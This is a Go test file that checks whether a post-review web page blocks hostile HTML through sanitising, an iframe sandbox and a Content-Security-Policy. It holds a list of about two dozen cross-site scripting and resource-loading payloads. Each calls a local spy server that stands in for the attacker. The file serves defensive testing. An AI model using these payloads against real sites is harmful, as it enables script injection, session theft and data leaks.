package review

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// spy is a server that every hostile post wants to reach. It remembers what was asked for.
type spy struct {
	*httptest.Server
	mu    sync.Mutex
	asked []string
}

func newSpy(t *testing.T) *spy {
	s := &spy{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.asked = append(s.asked, r.Method+" "+r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, "parent.postMessage('ran', '*')")
		}
	}))
	t.Cleanup(s.Close)
	return s
}

// seen returns what was asked for so far.
func (s *spy) seen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Compact(slices.Sorted(slices.Values(s.asked)))
}

// attacks are bodies of posts that want to run a script or to be fetched from, each by another
// way; SPY is where the spy listens. RUN is a script that tells it.
var attacks = []string{
	`<script>RUN</script>`,
	`<script src="SPY/script.js"></script>`,
	`<script type="module">import("SPY/module.js")</script>`,
	`<img src="x" onerror="RUN">`,
	`<img src="SPY/img.png" srcset="SPY/srcset.png 2x" alt="">`,
	`<picture><source srcset="SPY/source.png"><img src="SPY/picture.png"></picture>`,
	`<body onload="RUN"><div onmouseover="RUN" style="position:fixed;inset:0">over</div>`,
	`<svg onload="RUN"><script>RUN</script><image href="SPY/svg-image.png"/><use href="SPY/use.svg#a"/><animate onbegin="RUN" attributeName="x" dur="1s"/><foreignObject><iframe src="SPY/foreign"></iframe></foreignObject></svg>`,
	`<math><mtext><style><img src="x" onerror="RUN"></style></mtext><maction xlink:href="javascript:RUN">x</maction></math>`,
	`<meta http-equiv="refresh" content="0;url=SPY/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<base href="SPY/base/"><img src="relative.png">`,
	`<link rel="stylesheet" href="SPY/style.css"><link rel="preload" as="image" href="SPY/preload.png"><link rel="prefetch" href="SPY/prefetch"><link rel="icon" href="SPY/icon.ico">`,
	`<style>@import "SPY/import.css"; body { background: url(SPY/background.png) } @font-face { font-family: f; src: url(SPY/font.woff2) } p { font-family: f }</style><p>styled</p>`,
	`<p style="background:url(SPY/inline.png); list-style: url(SPY/list.png)">inline</p><table background="SPY/table.png"><tr><td>x</td></tr></table>`,
	`<iframe src="SPY/iframe"></iframe><iframe srcdoc="&lt;script&gt;parent.parent.postMessage('ran','*')&lt;/script&gt;&lt;img src=SPY/srcdoc.png&gt;"></iframe><iframe src="javascript:RUN"></iframe>`,
	`<object data="SPY/object"></object><embed src="SPY/embed"><applet code="SPY/applet"></applet>`,
	`<video src="SPY/film.mp4" poster="SPY/poster.png" autoplay></video><audio src="SPY/sound.mp3" autoplay></audio><video><source src="SPY/film-source.mp4"></video>`,
	`<form action="SPY/form" method="post"><input name="a" autofocus onfocus="RUN"><input type="image" src="SPY/button.png"><button>send</button></form>`,
	`<a href="javascript:RUN">run</a> <a href="SPY/link" ping="SPY/ping">go</a> <a href="data:text/html,<script>RUN</script>" target="_top">top</a>`,
	`<details open ontoggle="RUN"><summary>unfold</summary>x</details><marquee onstart="RUN">m</marquee>`,
	`<noscript><p title="</noscript><img src=x onerror='RUN'>"></noscript>`,
	`<template><img src="SPY/template.png"></template><textarea autofocus onfocus="RUN"></textarea><xmp><img src=x onerror="RUN"></xmp>`,
	`</body></html><script>RUN</script><!--<img src="--><img src=x onerror="RUN">-->`,
	`<ins class="gap" id="loss-1" onclick="RUN">x</ins><replant-embed url="SPY/own"><script>RUN</script></replant-embed><x-own src="SPY/own.js" onload="RUN"></x-own>`,
}

// armed returns posts with the attacks, a few in each.
func (s *spy) armed() (all []string) {
	for some := range slices.Chunk(s.attacks(), 5) {
		all = append(all, strings.Join(some, "\n<p>Between two.</p>\n"))
	}
	return all
}

// attacks returns the attacks with the spy's address.
func (s *spy) attacks() (all []string) {
	run := "parent.postMessage('ran','*');top.postMessage('ran','*');new Image().src='" + s.URL + "/ran'"
	for _, a := range attacks {
		quoted := run
		if strings.Contains(a, `RUN"`) {
			quoted = strings.ReplaceAll(run, `"`, "&quot;")
		}
		if strings.Contains(a, `'RUN'`) {
			quoted = strings.ReplaceAll(run, `'`, "&#39;")
		}
		all = append(all, strings.NewReplacer("SPY", s.URL, "RUN", quoted).Replace(a))
	}
	return all
}

// walls are what stands between a hostile post and its reader.
type walls struct{ tamed, sandboxed, policed bool }

func (w walls) String() string {
	var all []string
	for name, stands := range map[string]bool{"tamed": w.tamed, "sandbox": w.sandboxed, "policy": w.policed} {
		if stands {
			all = append(all, name)
		}
	}
	slices.Sort(all)
	return "behind " + strings.Join(all, " and ")
}

// breach serves a review without some of its walls.
type breach struct {
	*Server
	walls
	raw map[int]string // the posts as they came, by number
}

var policyMark = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)

func (b *breach) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	rec := httptest.NewRecorder()
	b.Server.ServeHTTP(rec, r)
	body := rec.Body.String()
	n, err := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/"+b.token+"/post/"))
	switch {
	case err == nil && !b.tamed:
		var d detail
		if json.Unmarshal(rec.Body.Bytes(), &d) == nil {
			d.Source, d.Page = b.raw[n], b.raw[n]
			text, _ := json.Marshal(d)
			body = string(text)
		}
	case r.URL.Path == "/"+b.token+"/":
		body = b.page(body, rec.Header())
	}
	for k, v := range rec.Header() {
		w.Header()[k] = v
	}
	w.WriteHeader(rec.Code)
	_, _ = w.Write([]byte(body))
}

// page takes walls out of the page. Where the policy stays, it has to know the script that
// has another text now.
func (b *breach) page(body string, h http.Header) string {
	was := script()
	is := was
	if !b.sandboxed {
		is = strings.Replace(is, `sandbox: "", `, "", 1)
	}
	if !b.policed {
		h.Del("Content-Security-Policy")
		is = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="' \+ framePolicy\(\) \+ '">`).ReplaceAllString(is, "")
	}
	hash := func(s string) string {
		sum := sha256.Sum256([]byte(s))
		return base64.StdEncoding.EncodeToString(sum[:])
	}
	if !strings.Contains(body, was) {
		panic("the page has another script")
	}
	body = strings.Replace(body, was, is, 1)
	if !b.policed {
		body = policyMark.ReplaceAllString(body, "")
	}
	for _, escaped := range []func(string) string{func(s string) string { return s }, func(s string) string { return strings.ReplaceAll(s, "+", "&#43;") }} {
		body = strings.ReplaceAll(body, escaped(hash(was)), hash(is))
	}
	h.Set("Content-Security-Policy", strings.ReplaceAll(h.Get("Content-Security-Policy"), hash(was), hash(is)))
	return body
}

// visit opens every post, as a reader who looks at all views and clicks on what there is, and
// returns whether any script has run.
func visit(b *browser, address string, posts int) (ran bool) {
	b.t.Helper()
	b.screen(1280, 900, "light")
	b.open(address)
	for i := range posts {
		b.run(fmt.Sprintf("location.hash = '#%d'", i), nil)
		b.until(fmt.Sprintf("document.querySelector('[aria-current]')?.hash === '#%d' && document.querySelectorAll('.pane iframe, .pane .empty').length === 2 && [...document.querySelectorAll('.pane iframe')].every(f => f.dataset.ready)", i))
		b.run("document.querySelector('.pane').scrollIntoView()", nil)
		for y := 60.0; y < 300; y += 60 {
			b.click(420, y)
			b.click(560, y)
		}
		time.Sleep(100 * time.Millisecond)
		b.run("[...document.querySelectorAll('.tabs button'), document.getElementById('tab-look')].forEach(x => x.click())", nil)
	}
	time.Sleep(300 * time.Millisecond)
	b.run("window.ran === true", &ran)
	return ran
}

// Nothing of a hostile post runs or asks for anything. Each wall but one keeps it out by
// itself, the sandbox lets pictures be asked for; without any, the attacks do reach the spy.
func TestHostilePostsReachNobody(t *testing.T) {
	t.Parallel()
	b := startBrowser(t)
	b.do("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "if (top === window) addEventListener('message', e => { if (e.data === 'ran') window.ran = true })"}, nil)
	all := []walls{{true, true, true}, {false, false, false}, {true, false, false}, {false, true, true}, {false, false, true}, {false, true, false}}
	if testing.Short() {
		all = all[:2] // as it is served, and the control
	}
	for _, w := range all {
		s := newSpy(t)
		ran := visitBehind(b, s, w)
		asked := s.seen()
		switch {
		case w == walls{}:
			if !ran || len(asked) < 20 {
				t.Errorf("without a wall the attacks should succeed: a script ran: %v, asked for %v", ran, asked)
			}
			t.Logf("without a wall: a script ran, and %d things were asked for", len(asked))
		case ran:
			t.Errorf("%v: a script ran", w)
		case w.tamed || w.policed:
			if len(asked) > 0 {
				t.Errorf("%v: asked for %v", w, asked)
			}
		default:
			t.Logf("a sandbox alone runs nothing; asked for %d things", len(asked))
		}
	}
}

// visitBehind opens the posts with the attacks behind some walls, and returns whether any
// script has run.
func visitBehind(b *browser, s *spy, w walls) (ran bool) {
	b.t.Helper()
	g := newGarden(b.t)
	g.settings.Embeds, g.settings.Images = "html", "remote"
	all := s.armed()
	for i, a := range all {
		g.write(fmt.Sprintf("attack-%d", i), fmt.Sprintf("Attack %d", i), "<p>Before it.</p>"+a+"<p>After it.</p>")
	}
	book := g.book()
	raw := map[int]string{}
	for i, a := range all {
		raw[number(b.t, book, fmt.Sprintf("Attack %d", i))] = a
	}
	server, err := book.Listen(0)
	if err != nil {
		b.t.Fatal(err)
	}
	web := &http.Server{Handler: &breach{server, w, raw}, ReadHeaderTimeout: time.Minute}
	go func() { _ = web.Serve(server.listener) }()
	defer func() { _ = web.Close() }()
	return visit(b, server.Address(), len(book.Review.Posts))
}

// A file has the same walls, and asks for nothing at all.
func TestHostilePostsInAFile(t *testing.T) {
	t.Parallel()
	b := startBrowser(t)
	s := newSpy(t)
	g := newGarden(t)
	g.settings.Images = "remote"
	for i, a := range s.armed() {
		g.write(fmt.Sprintf("attack-%d", i), fmt.Sprintf("Attack %d</script><script>parent.postMessage('ran','*')</script>", i), a)
	}
	book := g.book()
	address := inFile(t, book)
	b.do("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "addEventListener('message', e => { if (e.data === 'ran') window.ran = true })"}, nil)
	if ran := visit(b, address, len(book.Review.Posts)); ran {
		t.Error("a script ran")
	}
	if asked := s.seen(); len(asked) > 0 {
		t.Errorf("asked for %v", asked)
	}
}
